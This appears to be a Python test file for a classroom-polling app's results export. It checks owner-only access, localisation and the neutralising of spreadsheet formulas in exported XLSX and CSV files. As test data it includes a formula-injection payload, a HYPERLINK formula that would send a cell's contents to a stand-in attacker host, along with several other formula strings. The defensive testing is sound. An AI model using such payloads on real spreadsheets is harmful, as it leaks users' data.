"""The results downloads: GET /session/{keyword}/results.xlsx and results.csv (owner only),
read back with openpyxl and the csv module; what students typed never becomes a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

from openpyxl import load_workbook

from tests.conftest import expect_error
from tests.helpers import answers_of, ask_audience_question, create_question, give_answer

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
QUESTIONS_HEADER = ("Position", "Type", "Subject", "Question", "Round", "Letter", "Option",
                    "Correct", "Count", "Percent", "Abstentions", "Answers")  # fmt: skip


async def run_lecture(owner, keyword: str, join) -> None:
    """Two rounds of a choice question, free text with one answer hidden and two formulas,
    an audience question (a formula too) and one "slower" feedback."""
    choice = await create_question(owner, active=True)  # Newton (correct), Joule, Watt
    students = await join(3)
    for student, text in zip(students, ["Newton", "Joule", "Joule"], strict=True):
        await give_answer(student, choice, text=text)
    response = await owner.post(f"/lecturerquestion/{choice['_id']}/startnewpiround")
    assert response.status == 200, await response.text()
    for student, body in zip(
        students, [{"answerText": "Newton"}, {"answerText": "Newton"}, {"abstention": True}],
        strict=True,
    ):  # fmt: skip
        await give_answer(student, choice, body)
    free = await create_question(
        owner, questionType="freetext", subject="One word", text=HYPERLINK, active=True
    )
    texts = ["Inertia", "=1+1", "Träg\x07heit"]
    written = [
        await give_answer(student, free, text=text)
        for student, text in zip(students, texts, strict=True)
    ]
    hide = await owner.post(answers_of(free) + f"{written[0]['_id']}/hide")
    assert hide.status == 200, await hide.text()
    asked = await ask_audience_question(students[0], keyword, "Entropy", "@SUM(A1:A9)")
    qa = f"/session/{keyword}/qa/questions/{asked['_id']}"
    vote = await students[2].put(f"{qa}/vote", json={"value": 1})
    assert vote.status == 200, await vote.text()
    answered = await owner.patch(qa, json={"answered": True, "reply": "=2+2 (see sheet 3)"})
    assert answered.status == 200, await answered.text()
    feedback = await students[1].post(f"/session/{keyword}/feedback", json={"value": 2})
    assert feedback.status == 201


async def test_the_owner_gets_every_round_free_text_audience_and_feedback_in_a_workbook(
    owner, keyword, join
):
    await run_lecture(owner, keyword, join)
    response = await owner.get(f"/session/{keyword}/results.xlsx")
    assert response.status == 200, await response.text()
    assert response.content_type == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    today = datetime.now(UTC).date().isoformat()
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith(f'attachment; filename="Physics I {today}.xlsx"'), disposition
    data = await response.read()
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Questions", "Free-text answers", "Audience questions",
                                   "Feedback"]  # fmt: skip

    questions = list(workbook["Questions"].iter_rows(values_only=True))
    assert questions[0] == QUESTIONS_HEADER
    text = "What is the SI unit of force?"
    assert questions[1:] == [
        (1, "sc", "Units", text, 1, "A", "Newton", True, 1, 33.3, 0, 3),
        (1, "sc", "Units", text, 1, "B", "Joule", False, 2, 66.7, 0, 3),
        (1, "sc", "Units", text, 1, "C", "Watt", False, 0, 0, 0, 3),
        (1, "sc", "Units", text, 2, "A", "Newton", True, 2, 66.7, 1, 3),
        (1, "sc", "Units", text, 2, "B", "Joule", False, 0, 0, 1, 3),
        (1, "sc", "Units", text, 2, "C", "Watt", False, 0, 0, 1, 3),
        (2, "freetext", "One word", HYPERLINK, 1, None, None, None, 3, 100, 0, 3),
    ]

    written = list(workbook["Free-text answers"].iter_rows(values_only=True))
    assert written[0][:6] == ("Position", "Question", "Round", "Subject", "Answer", "Hidden")
    assert [row[:6] for row in written[1:]] == [
        (2, "One word", 1, None, "Inertia", True),
        (2, "One word", 1, None, "=1+1", False),
        (2, "One word", 1, None, "Träg\ufffdheit", False),  # XML cannot hold a bell
    ]
    assert all(isinstance(row[6], datetime) for row in written[1:])

    audience = list(workbook["Audience questions"].iter_rows(values_only=True))
    assert [row[1:] for row in audience] == [
        ("Subject", "Text", "Read", "Status", "Up-votes", "Down-votes", "Answered", "Reply",
         "Pinned"),
        ("Entropy", "@SUM(A1:A9)", False, "approved", 1, 0, True, "=2+2 (see sheet 3)", False),
    ]  # fmt: skip
    feedback = list(workbook["Feedback"].iter_rows(values_only=True))
    assert feedback == [("Feedback", "Users"), ("Faster, please", 0), ("All good", 0),
                        ("Slower, please", 1), ("I'm lost", 0)]  # fmt: skip

    # Formulas stay text: string cells, quote-prefixed as if typed after an apostrophe.
    audience_sheet = workbook["Audience questions"]
    formulas = [workbook["Questions"]["D8"], workbook["Free-text answers"]["E3"],
                audience_sheet["C2"], audience_sheet["I2"]]  # fmt: skip
    assert [cell.value for cell in formulas] == [
        HYPERLINK,
        "=1+1",
        "@SUM(A1:A9)",
        "=2+2 (see sheet 3)",
    ]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formulas)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 4
        assert not any(b"<f>" in archive.read(name) for name in sheets)


async def test_the_csv_is_the_questions_sheet_with_a_byte_order_mark(owner, keyword, join):
    await run_lecture(owner, keyword, join)
    rename = await owner.put(f"/session/{keyword}", json={"name": "Übung: Kräfte/Mechanik"})
    assert rename.status == 200, await rename.text()
    response = await owner.get(f"/session/{keyword}/results.csv")
    assert response.status == 200, await response.text()
    assert response.content_type == "text/csv" and response.charset == "utf-8"
    today = datetime.now(UTC).date().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="Ubung Krafte Mechanik {today}.csv"; '
        f"filename*=UTF-8''%C3%9Cbung%20Kr%C3%A4fte%20Mechanik%20{today}.csv"
    )
    data = await response.read()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == QUESTIONS_HEADER
    assert rows[1] == ["1", "sc", "Units", "What is the SI unit of force?", "1", "A", "Newton",
                       "true", "1", "33.3", "0", "3"]  # fmt: skip
    assert rows[7] == ["2", "freetext", "One word", "'" + HYPERLINK, "1", "", "", "", "3",
                       "100.0", "0", "3"]  # fmt: skip
    assert len(rows) == 8


async def test_only_the_owner_downloads_the_results(owner, keyword, participant, stranger, admin):
    for path in (f"/session/{keyword}/results.xlsx", f"/session/{keyword}/results.csv"):
        for client in (participant, stranger):
            await expect_error(await client.get(path), 403, "owner-only")
        assert (await admin.get(path)).status == 200
        unknown = path.replace(keyword, "00000000")
        await expect_error(await owner.get(unknown), 404, "session-not-found")


async def test_an_empty_session_gives_the_headers_only(owner, keyword):
    response = await owner.get(f"/session/{keyword}/results.xlsx")
    workbook = load_workbook(io.BytesIO(await response.read()))
    assert [sheet.max_row for sheet in workbook] == [1, 1, 1, 5]


async def test_the_sheets_speak_the_browsers_language(owner, keyword, join):
    """The workbook's own words follow Accept-Language (German or English, as the pages);
    `?lang=` overrides it; what people wrote stays as written."""
    await run_lecture(owner, keyword, join)
    german = {"Accept-Language": "de-AT,de;q=0.9,en;q=0.8"}
    response = await owner.get(f"/session/{keyword}/results.xlsx", headers=german)
    assert response.status == 200, await response.text()
    workbook = load_workbook(io.BytesIO(await response.read()))
    assert workbook.sheetnames == ["Fragen", "Freitext-Antworten", "Fragen aus dem Publikum",
                                   "Feedback"]  # fmt: skip
    questions = list(workbook["Fragen"].iter_rows(values_only=True))
    assert questions[0][:5] == ("Position", "Typ", "Betreff", "Frage", "Runde")
    assert questions[1][6] == "Newton"
    audience = list(workbook["Fragen aus dem Publikum"].iter_rows(values_only=True))
    assert audience[1][1:5] == ("Entropy", "@SUM(A1:A9)", False, "freigegeben")
    feedback = list(workbook["Feedback"].iter_rows(values_only=True))
    assert feedback == [("Feedback", "Personen"), ("Schneller, bitte", 0), ("Alles gut", 0),
                        ("Langsamer, bitte", 1), ("Abgehängt", 0)]  # fmt: skip

    response = await owner.get(f"/session/{keyword}/results.csv?lang=en", headers=german)
    text = (await response.read()).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(text))) == list(QUESTIONS_HEADER)
    french = {"Accept-Language": "fr-FR,fr;q=0.9"}
    response = await owner.get(f"/session/{keyword}/results.csv", headers=french)
    text = (await response.read()).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(text))) == list(QUESTIONS_HEADER)
    response = await owner.get(f"/session/{keyword}/results.xlsx?lang=fr")
    await expect_error(response, 400, "validation-failed")
